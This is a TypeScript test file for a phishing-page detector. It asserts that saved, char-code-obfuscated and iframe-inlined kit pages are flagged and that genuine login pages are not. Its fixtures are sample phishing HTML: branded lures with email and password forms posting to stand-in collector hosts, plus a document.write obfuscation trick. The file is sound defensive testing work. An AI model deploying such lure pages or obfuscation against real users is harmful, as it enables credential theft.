/**
 * Page verdicts for the saved, inlined, obfuscated and re-branded forms of a kit (issue 16), and the
 * honest pages that share their words.
 */
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import type { PageSnapshot } from '../../domain/index.js';
import { REPO } from '../../../test/support/page-corpus.js';
import { createPageAnalyzer } from './analyze-page.js';
import { loadBrandCatalog } from './brand-catalog.js';
import { extractFacts } from './html-facts.js';

const snap = (url: string, html: string): PageSnapshot => ({
  url,
  finalUrl: url,
  fetchedAt: '2025-03-01T00:00:00.000Z',
  mode: 'fetch',
  headers: {},
  redirectChain: [],
  html,
  scripts: [],
  requests: [],
  console: [],
});

let shipped: ReturnType<typeof createPageAnalyzer> | undefined;
const analyzer = async () => {
  shipped ??= createPageAnalyzer({ brands: (await loadBrandCatalog(join(REPO, 'brands'))).catalog });
  return shipped;
};

const judge = async (url: string, html: string) => {
  const a = await analyzer();
  const verdict = a.judge(a.analyze(snap(url, html)));
  return { ...verdict, ids: verdict.signals.map((s) => s.id) };
};

const SAVED = `<!DOCTYPE html><html><head><title>Verify your identity</title>
<link rel="stylesheet" href="./Verify_files/app.css"></head><body>
<svg role="img"><title>Microsoft</title><rect width="10" height="10"/></svg>
<img src="./Verify_files/microsoft_logo.png" alt="">
<h1>Verify your identity</h1><p>Confirm it's you to keep using your account.</p>
<form method="post" action="https://relay.example-auth.net/handler.php">
<input type="email" name="login"><input type="password" name="pwd"><button>Verify</button></form></body></html>`;

describe('saved and obfuscated kit pages', () => {
  it('reads a brand shown in an inline SVG and an image file name, not in any script URL', () => {
    const facts = extractFacts(SAVED, 'https://oakridge-dental.com/x/');
    assert.match(facts.labels, /Microsoft/);
    assert.match(facts.labels, /microsoft logo/);
    assert.doesNotMatch(facts.text, /Microsoft/, 'the SVG title is a label, not page text');
  });

  it('flags the saved verify-your-identity page on a compromised site', async () => {
    const v = await judge('https://oakridge-dental.com/wp-includes/verify/', SAVED);
    assert.ok(v.flagged, `score ${v.score}: ${v.ids.join(', ')}`);
    assert.ok(v.ids.includes('page.brand.terms'));
    assert.ok(v.ids.includes('page.capture.offsite-form'));
  });

  it('reads the form a shell writes from char codes, as a browser would show it', async () => {
    const body =
      '<h2>Sign in to read your voicemail</h2><form method="post" action="/v"><input type="email" name="email"><input type="password" name="password"><button>Listen</button></form>';
    const html = `<html><body><script>var c=[${[...body].map((c) => c.charCodeAt(0)).join(',')}];document.write(String.fromCharCode.apply(null,c));</script></body></html>`;
    const v = await judge('https://green-valley-gardening.com/', html);
    assert.ok(v.ids.includes('page.capture.password-field'), v.ids.join(', '));
    assert.ok(v.ids.includes('page.gate.obfuscation'));
    assert.ok(v.ids.includes('page.lure.pretext'));
    assert.ok(v.flagged, `score ${v.score}`);
  });

  it('reads a form inlined into an iframe srcdoc, and fields known only by their placeholders', async () => {
    const inner =
      '<h2>Your mailbox is almost full</h2><form action="https://keep.example-quota.top/k.php" method="post"><input type="text" name="a1" placeholder="Email address"><input type="text" name="a2" placeholder="Password"></form>';
    const html = `<html><body><iframe srcdoc="${inner.replace(/&/g, '&amp;').replace(/"/g, '&quot;')}"></iframe></body></html>`;
    const v = await judge('https://riverside-choir.org/m/', html);
    for (const id of ['page.capture.email-field', 'page.capture.password-field', 'page.capture.offsite-form'])
      assert.ok(v.ids.includes(id), `${id} in ${v.ids.join(', ')}`);
    assert.ok(v.flagged, `score ${v.score}`);
  });

  it('keeps words of separate elements apart and of inline ones together', () => {
    const f = extractFacts(
      '<h2>your voicemail</h2><button>Listen</button><p>Micro<span></span>soft</p>',
      'https://a.example/',
    );
    assert.match(f.text, /voicemail Listen/);
    assert.match(f.text, /Microsoft/);
  });
});

describe("honest pages that share a kit's words", () => {
  it("does not flag a company's own Outlook Web App: the brand named, nothing else wrong", async () => {
    const owa = `<html><head><title>Outlook</title></head><body><form action="/owa/auth.owa" method="POST">
<img src="/owa/auth/15.2/themes/resources/owa_text_blue.png" alt="Outlook">
<input id="username" name="username" type="text"><input id="password" name="password" type="password"></form></body></html>`;
    const v = await judge('https://mail.harrow-engineering.com/owa/auth/logon.aspx', owa);
    assert.ok(v.ids.includes('page.brand.terms'));
    assert.ok(!v.flagged, `score ${v.score}: ${v.ids.join(', ')}`);
    // The same page posting to another site is a clone.
    const clone = owa.replace('/owa/auth.owa', 'https://collector.example.top/owa.php');
    assert.ok((await judge('https://mail.harrow-engineering.com/owa/', clone)).flagged);
  });

  it("does not flag a service's own two-step page that names an authenticator app", async () => {
    const twoStep = `<html><head><title>Two-step verification – Taskflow</title></head><body>
<h1>Enter the code from Google Authenticator</h1><img src="/img/authenticator.svg" alt="Google Authenticator">
<form action="/session/otp" method="post"><input name="otp" autocomplete="one-time-code" inputmode="numeric"><button>Verify</button></form>
<a href="/help/2fa">Lost your device?</a> <a href="/">Home</a> <a href="/privacy">Privacy</a></body></html>`;
    const v = await judge('https://app.taskflow.io/session/otp', twoStep);
    assert.ok(v.ids.includes('page.capture.code-field') && v.ids.includes('page.brand.terms'));
    assert.ok(!v.flagged, `score ${v.score}: ${v.ids.join(', ')}`);
  });

  it('reads no pretext on a page inside a site, however it talks', async () => {
    const portal = `<html><body><nav><a href="/">Home</a><a href="/help">Help</a><a href="/plans">Plans</a></nav>
<h1>Sign in to listen to your voicemail</h1><form action="/voicemail/login" method="post">
<input type="tel" name="phone"><input type="password" name="pin"></form></body></html>`;
    const v = await judge('https://myaccount.bluewave-telecom.com/voicemail/login', portal);
    assert.ok(!v.ids.includes('page.lure.pretext'));
    assert.ok(!v.flagged, `score ${v.score}`);
  });
});
